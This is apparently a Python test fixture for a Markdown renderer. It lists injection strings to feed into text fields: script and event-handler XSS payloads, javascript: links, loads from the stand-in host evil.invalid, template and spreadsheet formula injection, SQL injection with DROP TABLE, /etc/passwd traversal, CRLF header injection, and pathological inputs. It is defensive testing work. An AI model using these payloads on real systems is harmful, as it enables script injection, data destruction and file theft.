"""Strings that are meant to run something, load something, or look like something else.

HOSTILE goes into every text field. Where one runs, it sets `window.hacked`, or asks the host
`evil.invalid` for something; a page that shows them does neither.
"""

import re
from html.parser import HTMLParser

RUN = "window.hacked=1"

# Elements and attributes
ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC=//evil.invalid/x.js></SCRIPT><ScRiPt>{RUN}</sCrIpT>",
    f"<script\n type=module>{RUN}</script\n>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror='{RUN}'>",
    f"<img/src=`x`/onerror={RUN}//",
    f'<IMG """><SCRIPT>{RUN}</SCRIPT>">',
    f"<img src=x:x onerror\x0b={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>tea</text></a></svg>",
    f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<math href='javascript:{RUN}'>tea</math>",
    f"<body onload={RUN}>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    "<embed src='//evil.invalid/x.swf' allowscriptaccess=always>",
    f"<a href='javascript:{RUN}'>tea</a>",
    f"<a href='java\tscript:{RUN}'>tea</a>",
    f"<a href='&#106;avascript:{RUN}'>tea</a>",
    f"<form action='javascript:{RUN}'><button>tea</button></form>",
    f"<button formaction='javascript:{RUN}'>tea</button>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}><option>tea</select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<details open ontoggle={RUN}><summary>tea</summary></details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>tea</marquee>",
    f"<x onclick={RUN} tabindex=1 id=x autofocus onfocus={RUN}>tea</x>",
    f"<div style='background:url(javascript:{RUN})'>tea</div>",
    "<style>@import '//evil.invalid/x.css';</style>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<base href='//evil.invalid/'>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml version='1.0'?><script>{RUN}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    "<img name=getElementById><form id=body><input name=innerHTML>",
)
# Markdown
MARKDOWN = (
    f"[tea](javascript:{RUN})",
    f"[tea](JaVaScRiPt:{RUN})",
    f"[tea](java&#x0A;script:{RUN})",
    f"[tea](&#106;avascript:{RUN})",
    f"[tea](\x01javascript:{RUN})",
    f"[tea](javascript&colon;{RUN})",
    f"[tea](vbscript:{RUN})",
    f"[tea](data:text/html;base64,PHNjcmlwdD4{'A' * 8})",
    f"[tea][1]\n\n[1]: javascript:{RUN}",
    f"<javascript:{RUN}>",
    f"<data:text/html,<script>{RUN}</script>>",
    "![tea](http://evil.invalid/x.png)",
    "![tea](//evil.invalid/x.png 'tea')",
    f"![tea](x'onerror='{RUN})",
    f'![" onerror="{RUN}](http://evil.invalid/y.png)',
    f'[tea](http://evil.invalid/ "x\\" onmouseover=\\"{RUN}")',
    f"[tea](http://evil.invalid/'onclick='{RUN})",
    f'```"><script>{RUN}</script>\ntea\n```',
    f"```js onload={RUN}\ntea\n```",
    f"`<script>{RUN}</script>`",
    f"| <script>{RUN}</script> |\n|---|\n| <img src=x onerror={RUN}> |",
    f"# <img src=x onerror={RUN}>",
    f"> <script>{RUN}</script>",
    "[tea](//evil.invalid/x)",
    "[tea](/api/me)",
    "[tea](file:///etc/passwd)",
)
# What reaches a page by another way: templates, scripts, attributes, tables of numbers, eyes
OTHERS = (
    f"{{{{ constructor.constructor('{RUN}')() }}}}",
    "{{ 7*7 }}{% raw %}${7*7}#{7*7}<%= 7*7 %>",
    f"';{RUN};'",
    f'";{RUN};//',
    f"`${{{RUN}}}`",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "__proto__",
    "constructor",
    "' OR 1=1; DROP TABLE accounts; --",
    "%' AND title LIKE '%",
    "../../../../etc/passwd",
    "safe\u202egnp.exe",
    "\u2066\u2067tea\u2069\u202btea",
    "\u200btea\u200d\ufeff",
    "tea\u2028" + RUN + "\u2029tea",
    "Z\u0351\u036f" * 40,
    "\U0001f3f4\U000e0067\U000e0062\U000e007f tea \ufdfa" * 8,
    "\x1b[31mtea\x1b[0m\x07\x08",
    "\r\nset-cookie: puna=evil",
)
HOSTILE = (*ELEMENTS, *MARKDOWN, *OTHERS)

# Long to read: each is shown in bounded time
SLOW = {
    "quotes": "> " * 3000,
    "one line": "a" * (1 << 20),
    "brackets": "[" * 19_000,
    "links in links": "[a](" * 4900,
    "images in images": "![[" * 6000,
    "links line by line": ("[x](" * 100 + "\n") * 400,
    "lists in lists": "\n".join("  " * depth + "- a" for depth in range(300)),
    "emphasis": ("*a _b " * 3000 + "\n") * 10,
    "table": "a|b\n-|-\n" + "c|d\n" * 40_000,
    "references": "[a]: b\n" * 25_000,
    "ticks": "`a``b```" * 2400,
    "tags": "<a " * 6600,
}

_HARMLESS = frozenset(
    "a blockquote br code del em h1 h2 h3 h4 h5 h6 hr li ol p pre s strong table tbody td th thead"
    " tr ul".split()
)
_ATTRIBUTES = frozenset("class dir href rel start tabindex target title".split())


class _Faults(HTMLParser):
    """What in HTML could run or load something."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """An element: of a kind that is harmless, with attributes that are."""
        if tag not in _HARMLESS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name not in _ATTRIBUTES:
                self.found.append(f"<{tag} {name}>")
            if name == "href" and not re.match(r"(https?://|mailto:)", value or ""):
                self.found.append(f"href={value}")


def faults_in(html: str) -> list[str]:
    """Elements, attributes and addresses in some HTML that rendered Markdown may not have."""
    parser = _Faults()
    parser.feed(html)
    parser.close()
    return parser.found
